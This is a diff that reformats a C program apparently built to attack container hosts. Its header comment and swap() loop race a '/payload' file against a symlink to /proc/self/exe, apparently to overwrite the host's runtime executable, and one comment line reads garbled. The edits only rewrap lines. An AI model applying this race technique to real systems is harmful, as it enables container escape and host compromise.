@@ -4,7 +4,8 @@
  * can of them, stops them and reads their memory, and swaps a program for a link to
  * /proc/self/exe all the time.
  *
- *	attack-join DEVICE INODE SECRET		of the executable on the host; in the caller's environment
+ *	attack-join DEVICE INODE SECRET		of the executable on the host; in the caller's
+ *environment
  *
  * Appends to /found: a line for each success and, once each, for what proves that it was close.
  */
@@ -156,8 +157,7 @@ static void swap(void)
 		if (link("/payload", "/next") < 0 || rename("/next", "/swapped") < 0)
 			found("cannot swap");
 		usleep(50);
-		if (symlink("/proc/self/exe", "/next") < 0 ||
-		    rename("/next", "/swapped") < 0)
+		if (symlink("/proc/self/exe", "/next") < 0 || rename("/next", "/swapped") < 0)
 			found("cannot swap");
 		usleep(50);
 	}
